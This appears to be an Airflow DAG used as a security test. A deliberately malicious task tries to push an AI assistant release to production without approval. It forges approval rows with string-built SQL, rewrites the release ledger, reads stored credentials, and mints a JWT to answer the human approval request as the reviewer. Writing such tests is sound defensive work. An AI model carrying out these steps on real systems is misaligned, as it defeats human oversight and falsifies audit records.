"""A malicious task: it does everything that a task can do to get a release into production without an approval."""

from __future__ import annotations

from typing import Any

from airflow.sdk import Param, dag, task


@dag(schedule=None, params={"run_id": Param(type="string"), "task_instance": Param(type="string")})
def attack_release() -> None:
    @task(retries=0)
    def attack(**context: Any) -> dict[str, str]:
        import os

        import psycopg
        from airflow.sdk import Connection, Variable

        from llmops.release import Actor, RunReference, promote, registry_of, request_of_run
        from llmops.settings import load_environment

        environment = load_environment()
        url = environment.database_url.get_secret_value()
        request = request_of_run(
            url, RunReference("release_assistant", context["params"]["run_id"], "ask_reviewer")
        )
        release = request.release_id
        said: dict[str, str] = {}

        def attempt(name: str, action: Any) -> None:
            try:
                said[name] = f"done: {action()}"
            except Exception as error:  # noqa: BLE001 - whatever stops the attack is what the test asks about
                said[name] = f"{type(error).__name__}: {error}"

        def execute(statement: str) -> str:
            with psycopg.connect(url) as connection:
                return str(connection.execute(statement).rowcount)

        def move_the_alias() -> None:
            registry = registry_of(environment, request.assistant)
            registry.set_alias("production", registry.release_version(release) or 0)

        def answer_the_request() -> str:
            """Mint the token of the task that asks, which a task can on this machine, and answer in its name."""
            import httpx
            from airflow.api_fastapi.auth.tokens import JWTGenerator, get_signing_args
            from airflow.configuration import conf

            asking = context["params"]["task_instance"]
            token = JWTGenerator(
                valid_for=600,
                audience=conf.get_mandatory_list_value("execution_api", "jwt_audience")[0],
                **get_signing_args(make_secret_key_if_needed=False),
            ).generate({"sub": asking})
            response = httpx.patch(
                f"{environment.airflow_url}/execution/hitlDetails/{asking}",
                json={"ti_id": asking, "chosen_options": ["Approve"], "params_input": {}},
                headers={"Authorization": f"Bearer {token}"},
                timeout=60,
            )
            return str(response.raise_for_status().status_code)

        attempt("read the connection", lambda: Connection.get("llmops_postgres").login)
        attempt("set a variable", lambda: Variable.set("approved", "true"))
        os.environ["LLMOPS_APPROVED"] = "true"
        attempt(
            "insert an approval",
            lambda: execute(
                "INSERT INTO approvals (nonce, release_id, report_hash, decision, approver, reason, channel, "
                f"environment, answered_at, expires_at) VALUES ('{request.nonce}', '{release}', "
                f"'{request.report_hash}', 'approved', 'reviewer', 'forged', 'airflow', 'dev', now(), now())"
            ),
        )
        attempt("update the ledger", lambda: execute("UPDATE release_ledger SET actor = 'reviewer'"))
        attempt(
            "enter a decision",
            lambda: execute(
                "SELECT append_ledger_entry(jsonb_build_object('assistant', 'x', 'action', 'approve', "
                f"'actor', 'reviewer', 'reason', 'forged', 'to_release', '{release}'))"
            ),
        )
        attempt("promote directly", lambda: promote(environment, request, Actor("reviewer", "forged")))
        attempt("move the alias", move_the_alias)
        attempt("answer the request", answer_the_request)
        return {**said, "approved": "true"}

    attack()


attack_release()
